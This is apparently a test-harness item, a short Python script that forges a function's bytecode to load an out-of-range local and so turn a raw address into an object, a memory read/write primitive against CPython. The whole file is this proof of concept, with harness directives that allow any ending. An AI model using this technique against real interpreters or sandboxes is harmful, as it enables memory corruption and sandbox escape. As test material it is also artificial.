# Makes an object of a number by code that trusts it, and so reads and writes any address of its memory.
#% limits: time=500ms
import dis
op = dis.opmap
forged = bytearray(64)
def f(x): return x
name = "LOAD_FAST" if "LOAD_FAST" in op else "LOAD_FAST_BORROW"
f.__code__ = f.__code__.replace(co_nlocals=1, co_code=bytes([op["RESUME"], 0, op["EXTENDED_ARG"], 1, op[name], 0x40, op["RETURN_VALUE"], 0]))
for _ in range(10):
    try:
        f(id(forged)).append(1)
    except Exception:
        pass
#% ends: any
#% session: either
#% after: fresh
